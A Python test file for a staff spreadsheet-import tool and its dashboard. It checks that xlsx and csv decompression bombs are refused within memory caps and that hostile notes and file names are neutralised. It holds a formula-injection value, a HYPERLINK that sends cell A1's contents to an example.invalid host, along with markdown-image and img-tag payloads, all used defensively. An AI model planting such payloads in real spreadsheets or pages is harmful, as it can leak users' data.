"""Hostile staff files: bombs that are small on disk and huge when read are refused in seconds and within a memory
cap, with a message that says what to do, and data/ stays byte-identical. The files are generated here
(tests/hostile_files.py), not committed."""

import pytest

import forked_cli
import hostile_files
from loaders.project import load_project
from loaders.staff import updates
from test_imports import CORPUS, ROOT, data_fingerprint

MEMORY_CAP = 1024 * 1024 * 1024  # the whole CLI (pandas, pyarrow, openpyxl) peaks near 200 MB on a good file
TIME_CAP_S = 90  # a few seconds when idle; generous for a loaded 2-core machine

EXPANDED = "超过上限 30 MB：可能含大量空行、空列或超长单元格；请只保留需要的行列，另存后再上传"
TOO_MANY_ROWS = "行数超过上限 5000 行：请只保留需要更新的行（空行也要删除）"
BOMBS = {
    "million-empty-rows.xlsx": (
        hostile_files.million_empty_rows,
        f"million-empty-rows.xlsx: 工作簿解压后有 33 MB（10 个部件），{EXPANDED}",
    ),
    "far-away-cell.xlsx": (hostile_files.far_away_cell, f"far-away-cell.xlsx[2023-06]:5001: {TOO_MANY_ROWS}"),
    "wide-row.xlsx": (hostile_files.wide_row, "wide-row.xlsx[2023-06]:3: 列数超过上限 60 列：请删去多余的列"),
    "huge-cell.xlsx": (
        hostile_files.huge_shared_string,
        f"huge-cell.xlsx: 工作簿解压后有 300 MB（11 个部件），{EXPANDED}",
    ),
    "long-note.xlsx": (
        hostile_files.long_inline_note,
        "long-note.xlsx[2023-06]:2: 单元格 D2 有 200000 个字符，超过上限 2000 个：请缩短",
    ),
    "entities.xlsx": (
        hostile_files.entity_bomb,
        "entities.xlsx: Excel 文件已损坏或不完整，请在 Excel 中重新保存后再上传（ValueError）",
    ),
    "million-rows.csv": (hostile_files.million_row_csv, f"million-rows.csv:5001: {TOO_MANY_ROWS}"),
    # under the expansion limit, yet gigabytes once read (issue #26)
    "one-row-of-empty-cells.xlsx": (
        hostile_files.one_row_of_empty_cells,
        "one-row-of-empty-cells.xlsx:3: 这一行有超过 16384 个单元格（含设了格式的空白单元格）：请删去多余的列，另存后再上传",
    ),
    "many-rows-of-empty-cells.xlsx": (
        hostile_files.rows_of_empty_cells,
        "many-rows-of-empty-cells.xlsx: 一个工作表有超过 1000000 个单元格（含设了格式的空白单元格）："
        "请只保留需要的行列，另存后再上传",
    ),
    "shared-strings.xlsx": (
        hostile_files.many_shared_strings,
        "shared-strings.xlsx: 工作簿含有超过 300000 段文字（共享字符串）："
        "请把需要的数据复制到新工作簿（选择性粘贴为数值），另存后再上传",
    ),
    "styles.xlsx": (
        hostile_files.many_styles,
        "styles.xlsx: 工作簿的样式表过大（超过 50000 项）：请把需要的数据复制到新工作簿（选择性粘贴为数值），另存后再上传",
    ),
    "deep.xlsx": (
        hostile_files.deep_nesting,
        "deep.xlsx: Excel 文件已损坏或不完整，请在 Excel 中重新保存后再上传（ValueError）",
    ),
}


@pytest.mark.slow  # a capped process per bomb
@pytest.mark.parametrize("name", sorted(BOMBS))
def test_a_file_that_explodes_when_read_is_refused_quickly_within_a_memory_cap(project_copy, tmp_path, name):
    make, message = BOMBS[name]
    (tmp_path / name).write_bytes(make())
    before = data_fingerprint(project_copy)
    # `python -m loaders` in a process of its own (forked after the imports: tests/forked_cli.py), capped
    result = forked_cli.run(
        ["--root", str(project_copy), "import", name, "--apply"],
        cwd=tmp_path,
        timeout=TIME_CAP_S,
        memory_cap=MEMORY_CAP,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
    )
    assert result.returncode == 1
    assert result.stderr.splitlines() == [message, "未写入任何数据"]
    assert data_fingerprint(project_copy) == before


@pytest.mark.slow
def test_the_projects_own_files_are_read_whatever_the_size_of_a_field(project_copy):
    """A note of 300,000 characters (quoted, as csv writes a note with a comma) written before limits existed must
    stop neither validate nor the next import of that month."""
    note = "长," * 150_000
    june = project_copy / "data/monthly/2023-06.csv"
    june.write_text(
        f'indicator_id,period,value,yoy_pct,rank,note,updated_by,updated_at\ngdp,2023-06,480.3,6.5,5,"{note}",,\n',
        encoding="utf-8",
    )
    project = load_project(project_copy)
    assert project.ok, [p.format() for p in project.problems]
    assert [f.note for f in project.facts if f.period == "2023-06"][0] == note
    update = updates.read_update("ok-utf8.csv", (CORPUS / "ok-utf8.csv").read_bytes(), project_copy)
    changed = [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"]
    assert update.ok and changed == [("note", note, "上半年")]


INJECTED = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'


def test_a_formula_typed_as_a_note_comes_back_in_the_templates_as_text_and_uploads_unchanged(project_copy):
    import io

    import openpyxl

    from loaders.staff.template import self_template_csv, self_template_xlsx

    (project_copy / "data/assessments/food-safety-2023-self.csv").write_text(
        "point,score,status,note,updated_by,updated_at\n"
        f'P01,2,in_progress,"{INJECTED.replace(chr(34), chr(34) * 2)}",,\n',
        encoding="utf-8",
    )
    project = load_project(project_copy)
    assert project.ok, [p.format() for p in project.problems]
    workbook = self_template_xlsx(project, "food-safety-2023")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["自评"]
    cell = next(row[7] for row in sheet.iter_rows() if row[0].value == "P01")
    assert cell.data_type == "s" and cell.value == "'" + INJECTED  # text, never a formula Excel would run
    text = self_template_csv(project, "food-safety-2023").decode("utf-8-sig")
    assert "'" + INJECTED.replace('"', '""') in text and f",{INJECTED[:10]}" not in text.replace('"', "")
    for name, data in (("自评模板.xlsx", workbook), ("自评模板.csv", text.encode("utf-8"))):
        update = updates.read_update(name, data, project_copy, project)
        assert update.ok and update.counts()["changed"] == 0, [p.format() for p in update.problems]
        assert next(e.note for e in update.entries if e.point == "P01") == INJECTED


@pytest.mark.slow  # the whole app (AppTest)
def test_a_note_is_shown_as_written_never_as_markdown_or_html_on_the_public_page(project_copy, monkeypatch):
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    from charts.format import plain_markdown

    note = "![t](http://example.invalid/x.png) <img src=x> $x$"
    (project_copy / "data/assessments/food-safety-2023-self.csv").write_text(
        f"point,score,status,note,updated_by,updated_at\nP01,2,in_progress,{note},,\n", encoding="utf-8"
    )
    monkeypatch.setenv("DASHBOARD_ROOT", str(project_copy))
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    at.query_params["point"] = "P01"
    at.run()
    at.switch_page("pages/foodsafety.py").run()
    assert not at.exception
    shown = [m.value for m in at.markdown if "example" in m.value]
    assert shown and all(plain_markdown(note) in m and note not in m for m in shown)


def test_plain_markdown_escapes_every_character_that_markdown_gives_a_meaning():
    from charts.format import plain_markdown

    assert plain_markdown("![t](http://h/x.png)") == "!\\[t\\](http\\:\u2060//h/x.png)"  # no link either
    assert plain_markdown("www.example.com") == "www\u2060.example.com"
    assert plain_markdown("- 列表\n# 标题\n10. 编号\n---") == "\\- 列表\n\\# 标题\n10\\. 编号\n\\---"
    assert (
        plain_markdown("-4.5个百分点，1,000.24 亿元，#3") == "-4.5个百分点，1,000.24 亿元，#3"
    )  # only markup is escaped
    assert plain_markdown("<b>粗体</b> **x** _y_ `z` $m$ :red[r]") == (
        "\\<b\\>粗体\\</b\\> \\*\\*x\\*\\* \\_y\\_ \\`z\\` \\$m\\$ \\:red\\[r\\]"
    )
    assert plain_markdown("地区生产总值增长7%以上") == "地区生产总值增长7%以上"


def test_an_uploaded_files_name_is_shown_as_written_in_the_warning_box(staff_app):
    from conftest import sign_in

    at, root = staff_app
    sign_in(at)
    at.switch_page("pages/maintenance.py").run()
    name = "![x](http://example.invalid/x.png).csv"
    at.file_uploader(key="upload").upload(name, (CORPUS / "warn-growth.csv").read_bytes()).run()
    assert not at.exception
    warning = at.warning[0].value
    from charts.format import plain_markdown

    assert plain_markdown(name) in warning and "![x](" not in warning and "!\\[x\\](http\\:" in warning
